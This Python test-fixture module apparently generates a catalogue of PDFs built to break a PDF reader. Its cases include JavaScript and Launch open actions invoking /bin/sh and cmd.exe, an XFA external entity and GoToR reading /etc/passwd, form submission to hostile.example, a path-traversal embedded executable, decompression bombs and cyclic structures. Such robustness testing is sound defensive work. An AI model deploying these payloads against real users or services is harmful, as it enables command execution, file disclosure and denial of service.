"""PDFs made to break their reader: names, and what makes their contents."""

import zlib
from collections.abc import Callable

from format_files import CATALOG, DRAWN, FONT, PAGE, PAGES, TITLE, WORDS, pdf, pdf_of, shown_text, stream

Make = Callable[[], bytes]
SECRET = "/etc/passwd"


def _with_page(entry: str) -> str:
    return PAGE.replace("/Type /Page ", f"/Type /Page {entry} ")


def _action(action: str, *more: bytes | str) -> bytes:
    """A sound page whose file wants something done when it is opened."""
    return pdf_of(
        *more,
        catalog=f"<< /Type /Catalog /Pages 2 0 R /OpenAction << {action} >> /AA << /WC << {action} >> >> >>",
        page=_with_page(
            f"/AA << /O << {action} >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << {action} >> >>]"
        ),
    )


def _deflated(data: bytes, times: int = 1, layers: int = 1) -> bytes:
    """A stream of data many times, packed in layers."""
    packer = zlib.compressobj(9, wbits=-15)
    block = packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(times):
        checksum = zlib.adler32(data, checksum)
    packed = b"\x78\xda" + block * times + b"\x03\0" + checksum.to_bytes(4, "big")
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    return stream(packed, f"/Filter [{'/FlateDecode ' * layers}]")


def _form(drawn: bytes, resources: str) -> bytes:
    return stream(drawn, f"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << {resources} >>")


def _forms(levels: int, each: int) -> bytes:
    """Forms each of which draws the next one many times."""
    forms = [_form(b"/X Do " * each, f"/XObject << /X {7 + level} 0 R >>") for level in range(levels)]
    return pdf_of(
        *forms, _form(shown_text("deep"), "/Font << /F1 5 0 R >>"), drawn=stream(shown_text(TITLE, WORDS) + b" /X Do")
    )


def _outline(*items: str) -> bytes:
    """A page with an outline; items are objects from 7 on."""
    catalog = "<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>"
    return pdf_of("<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 9 >>", *items, catalog=catalog)


def _to_unicode(ranges: str) -> bytes:
    """A page whose font says itself which characters it shows."""
    table = f"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange {ranges} endcmap end"
    return pdf_of(stream(table.encode()), font=FONT.replace(">>", "/ToUnicode 6 0 R >>"))


def _pages(count: int, kids: str) -> str:
    return f"<< /Type /Pages /Kids [{kids}] /Count {count} >>"


PDFS: dict[str, Make] = {
    "javascript.pdf": lambda: _action("/S /JavaScript /JS (app.alert(1); this.exportDataObject({cName: 'x', nLaunch: 2});)"),
    "launch.pdf": lambda: _action("/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>"),
    "goes elsewhere.pdf": lambda: _action(f"/S /GoToR /F (file://{SECRET}) /D [0 /Fit]"),
    "asks a server.pdf": lambda: _action("/S /URI /URI (http://hostile.example/)"),
    "sends a form.pdf": lambda: _action("/S /SubmitForm /F << /FS /URL /F (http://hostile.example/) >>"),
    "attached.pdf": lambda: pdf_of(
        stream(b"MZ" * 5_000, "/Type /EmbeddedFile"),
        catalog="<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(../../hostile.exe) << /Type /Filespec "
        "/F (../../hostile.exe) /EF << /F 6 0 R >> >>] >> >> >>",
    ),
    "stream of a file.pdf": lambda: pdf_of(drawn=b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"),
    "encrypted.pdf": lambda: pdf_of(
        trailer=f"/ID [<00> <00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>"
    ),
    "unknown lock.pdf": lambda: pdf_of(trailer="/ID [<00> <00>] /Encrypt << /Filter /Hostile.DRM /V 9 >>"),
    "pages in a circle.pdf": lambda: pdf_of(pages=_pages(5, "2 0 R 2 0 R 3 0 R")),
    "pages of their parent.pdf": lambda: pdf_of("<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>", pages=_pages(3, "6 0 R 3 0 R")),
    "a million pages said.pdf": lambda: pdf_of(pages=_pages(1_000_000, "3 0 R")),
    "too many pages said.pdf": lambda: pdf_of(pages=_pages(10**15, "3 0 R")),
    "fewer pages than none.pdf": lambda: pdf_of(pages=_pages(-5, "3 0 R")),
    "a page 100,000 times.pdf": lambda: pdf_of(pages=_pages(100_000, "3 0 R " * 100_000)),
    "a page 3,000 times.pdf": lambda: pdf_of(pages=_pages(3_000, "3 0 R " * 3_000)),
    "pages 5,000 deep.pdf": lambda: pdf_of(
        *(f"<< /Type /Pages /Kids [{row} 0 R] /Count 1 >>" for row in range(7, 5_007)), PAGE, pages=_pages(1, "6 0 R")
    ),
    "no pages.pdf": lambda: pdf_of(pages=_pages(0, "")),
    "pages are noise.pdf": lambda: pdf_of(pages="[null (x) 99 0 R]"),
    "catalog of itself.pdf": lambda: pdf("1 0 R"),
    "no catalog.pdf": lambda: pdf_of(catalog="null"),
    "1 GB drawn.pdf": lambda: pdf_of(drawn=_deflated(b" " * 1_000_000, 1_000)),
    "1 GB drawn, packed twice.pdf": lambda: pdf_of(drawn=_deflated(b" " * 1_000_000, 1_000, 2)),
    "packed 1,000 times.pdf": lambda: pdf_of(drawn=stream(b"x", f"/Filter [{'/FlateDecode ' * 1_000}]")),
    "hex of hex.pdf": lambda: pdf_of(drawn=stream(b"30" * 100_000, f"/Filter [{'/ASCIIHexDecode ' * 50}]")),
    "runs.pdf": lambda: pdf_of(drawn=stream(b"\x81 " * 1_000_000, "/Filter /RunLengthDecode")),
    "predictors.pdf": lambda: pdf_of(
        drawn=stream(zlib.compress(b"x" * 999), "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 32 >>")
    ),
    "length of 2 GB.pdf": lambda: pdf_of(drawn=DRAWN.replace(b"/Length ", b"/Length 2147483647 %")),
    "length of itself.pdf": lambda: pdf_of(drawn=b"<< /Length 4 0 R >>\nstream\n" + shown_text(TITLE, WORDS) + b"\nendstream"),
    "a million texts.pdf": lambda: pdf_of(drawn=_deflated(b"BT /F1 9 Tf 72 700 Td (x y) Tj ET\n" * 1_000, 1_000)),
    "a text of 4 MB.pdf": lambda: pdf_of(drawn=_deflated(b"BT /F1 9 Tf 72 700 Td (" + b"word " * 800_000 + b") Tj ET")),
    "states pushed.pdf": lambda: pdf_of(drawn=stream(shown_text(TITLE, WORDS) + b" q" * 1_000_000)),
    "arrays nested.pdf": lambda: pdf_of(drawn=stream(b"[" * 500_000)),
    "dictionaries nested.pdf": lambda: pdf_of("<< /A " * 100_000 + ">>" * 100_000, page=_with_page("/B 6 0 R")),
    "form of itself.pdf": lambda: pdf_of(_form(shown_text("deep") + b" /X Do", "/XObject << /X 6 0 R >> /Font << /F1 5 0 R >>"), drawn=stream(shown_text(TITLE, WORDS) + b" /X Do")),
    "forms of one another.pdf": lambda: pdf_of(_form(b"/X Do", "/XObject << /X 7 0 R >>"), _form(b"/X Do /X Do", "/XObject << /X 6 0 R >>"), drawn=stream(shown_text(TITLE, WORDS) + b" /X Do")),
    "forms ten to the tenth.pdf": lambda: _forms(10, 10),
    "forms two to the thirtieth.pdf": lambda: _forms(30, 2),
    "pattern of itself.pdf": lambda: pdf_of(
        stream(b"/Pattern cs /P scn 0 0 99 99 re f", "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 1e-30 /YStep 1e-30 /Resources << /Pattern << /P 6 0 R >> >>"),
        page=PAGE.replace("/XObject", "/Pattern << /P 6 0 R >> /XObject"),
        drawn=stream(shown_text(TITLE, WORDS) + b" /Pattern cs /P scn 0 0 9e9 9e9 re f"),
    ),
    "font of itself.pdf": lambda: pdf_of(
        stream(b"1 0 d0 BT /F1 9 Tf (a) Tj ET"),
        font="<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Type /Encoding "
        "/Differences [0 " + "/a " * 256 + "] >> /FirstChar 0 /LastChar 255 /Widths [" + "1 " * 256 + "] /Resources << /Font << /F1 5 0 R >> >> >>",
    ),
    "font is noise.pdf": lambda: pdf_of(stream(b"\xff" * 5_000), "<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 6 0 R >>", font="<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 7 0 R >>"),
    "no font.pdf": lambda: pdf_of(font="null"),
    "composite font of itself.pdf": lambda: pdf_of(font="<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 5 0 R /DescendantFonts [5 0 R] >>"),
    "characters of 1,000.pdf": lambda: _to_unicode(f"1 beginbfrange <00> <FF> <{'0041' * 1_000}> endbfrange"),
    "ranges of 4 billion.pdf": lambda: _to_unicode("1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange 1 begincidrange <00> <FFFFFFFF> 0 endcidrange"),
    "characters that are none.pdf": lambda: _to_unicode("3 beginbfchar <65> <D800> <73> <0000> <74> <202E> endbfchar"),
    "characters of one's own.pdf": lambda: _to_unicode("1 beginbfrange <20> <7E> <E000> endbfrange"),
    "sizes of 1e30.pdf": lambda: pdf_of(drawn=stream(b"BT /F1 1e30 Tf 1e38 0 0 1e38 1e38 1e38 Tm (Refunds take three working days) Tj ET")),
    "size of none.pdf": lambda: pdf_of(drawn=stream(b"BT /F1 0 Tf 0 0 0 0 0 0 Tm (Refunds take three working days) Tj ET")),
    "not a number.pdf": lambda: pdf_of(drawn=stream(b"BT /F1 nan Tf -- .. +-9 Td (Refunds take three working days) Tj ET")),
    "page of no size.pdf": lambda: pdf_of(page=PAGE.replace("[0 0 612 792]", "[0 0 0 0]")),
    "page of 1e38.pdf": lambda: pdf_of(page=PAGE.replace("[0 0 612 792]", "[-1e38 -1e38 1e38 1e38]")),
    "page turned.pdf": lambda: pdf_of(page=_with_page("/Rotate 45 /UserUnit 1e30")),
    "box of itself.pdf": lambda: pdf_of(page=PAGE.replace("[0 0 612 792]", "3 0 R")),
    "picture of 2 GB.pdf": lambda: pdf_of(
        stream(b"x", "/Type /XObject /Subtype /Image /Width 65535 /Height 65535 /BitsPerComponent 16 /ColorSpace /DeviceCMYK"),
        drawn=stream(shown_text(TITLE, WORDS) + b" /X Do"),
    ),
    "only a picture.pdf": lambda: pdf_of(
        stream(bytes(300), "/Type /XObject /Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceRGB"), drawn=stream(b"q 612 0 0 792 0 0 cm /X Do Q")
    ),
    "outline of itself.pdf": lambda: _outline("<< /Title (1. Refunds) /Parent 6 0 R /First 7 0 R /Next 7 0 R /Prev 7 0 R /Dest [3 0 R /Fit] >>"),
    "outline in a circle.pdf": lambda: _outline(
        "<< /Title (a) /First 8 0 R /Next 9 0 R >>", "<< /Title (b) /First 7 0 R /Next 9 0 R >>", "<< /Title (c) /First 7 0 R /Next 8 0 R >>"
    ),
    "outline 100,000 long.pdf": lambda: _outline(*(f"<< /Title (x) /Next {row} 0 R /Dest [3 0 R /Fit] >>" for row in range(8, 100_008))),
    "outline 20,000 deep.pdf": lambda: _outline(*(f"<< /Title (x) /First {row} 0 R /Dest [3 0 R /Fit] >>" for row in range(8, 20_008))),
    "outline's titles.pdf": lambda: _outline(
        "<< /Title <FEFFD800DC000000202E> /Next 8 0 R /Dest [3 0 R /XYZ nan 1e99 null] >>",
        f"<< /Title ({'x' * 1_000_000}) /Next 9 0 R /Dest [999999999 /Fit] >>",
        "<< /Title (<script>window.hostile = 1</script>) /A << /S /JavaScript /JS (app.alert(1)) >> >>",
    ),
    "structure of itself.pdf": lambda: pdf_of(
        "<< /Type /StructTreeRoot /K [6 0 R 7 0 R] /ParentTree << /Kids [6 0 R] >> >>", "<< /S /P /P 6 0 R /K [7 0 R 7 0 R 0] /Pg 3 0 R >>",
        catalog="<< /Type /Catalog /Pages 2 0 R /MarkInfo << /Marked true >> /StructTreeRoot 6 0 R >>",
    ),
    "labels in a circle.pdf": lambda: pdf_of("<< /Kids [6 0 R 6 0 R] >>", catalog="<< /Type /Catalog /Pages 2 0 R /PageLabels 6 0 R /Dests 6 0 R /Names << /Dests 6 0 R >> >>"),
    "table of itself.pdf": lambda: pdf_of().replace(b"trailer\n<<", b"trailer\n<< /Prev 15 /XRefStm 15 "),
    "table in a circle.pdf": lambda: _circle(),
    "table far away.pdf": lambda: _start_at(b"99999999999999999999"),
    "table before the start.pdf": lambda: _start_at(b"-5"),
    "table of 2 billion.pdf": lambda: pdf_of().replace(b"xref\n0 6", b"xref\n0 2147483647"),
    "table is wrong.pdf": lambda: pdf_of().replace(b"00000 n", b"00000 f"),
    "objects in themselves.pdf": lambda: _object_streams(),
    "size of 2 billion.pdf": lambda: pdf_of().replace(b"/Size 6", b"/Size 2147483647"),
    "no table.pdf": lambda: pdf_of().partition(b"xref\n")[0],
    "objects alone.pdf": lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 500_000,
    "numbers alone.pdf": lambda: b"%PDF-1.7\n" + b"9" * 4_000_000,
    "late.pdf": lambda: b"x" * 2_000 + pdf_of(),
    "form of XML.pdf": lambda: pdf_of(
        stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;</xdp:xdp>'),
        catalog="<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R /Fields [6 0 R] >> >>",
    ),
    "also a page of the web.pdf": lambda: b"<html><script>window.hostile = 1</script><!--\n" + pdf_of() + b"--></html>",
}  # fmt: skip


def _start_at(place: bytes) -> bytes:
    before, _, behind = pdf_of().rpartition(b"startxref\n")
    return before + b"startxref\n" + place + b"\n%%EOF\n" + behind[:0]


def _circle() -> bytes:
    data = pdf_of()
    at = data.rindex(b"xref\n0 6")
    return data.replace(b"trailer\n<<", b"trailer\n<< /Prev %d " % at)


def _object_streams() -> bytes:
    """Object streams that hold, and go on with, themselves."""
    inner = b"6 0 7 2 1 8 6 0 R 7 0 R << /Type /Catalog /Pages 2 0 R >>"
    held = stream(inner, "/Type /ObjStm /N 3 /First 12 /Extends 6 0 R")
    return pdf(CATALOG, PAGES, PAGE, DRAWN, FONT, held, held).replace(b"/Root 1 0 R", b"/Root 7 0 R")
